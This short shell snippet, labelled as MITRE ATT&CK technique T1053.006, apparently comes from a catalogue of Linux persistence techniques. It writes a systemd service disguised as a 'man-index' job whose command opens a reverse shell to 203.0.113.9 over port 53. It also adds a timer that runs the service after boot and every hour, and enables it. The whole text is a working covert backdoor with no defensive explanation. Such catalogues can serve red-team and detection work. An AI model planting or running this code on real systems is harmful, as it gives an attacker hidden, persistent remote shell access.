# technique: T1053.006
# location: linux.systemd.timer
# source: /etc/systemd/system/man-index.timer
printf '[Service]\nType=oneshot\nExecStart=/bin/bash -c "exec 3<>/dev/tcp/203.0.113.9/53; sh <&3"\n' > /etc/systemd/system/man-index.service
printf '[Timer]\nOnBootSec=4min\nOnUnitActiveSec=1h\n[Install]\nWantedBy=timers.target\n' > /etc/systemd/system/man-index.timer
systemctl enable man-index.timer
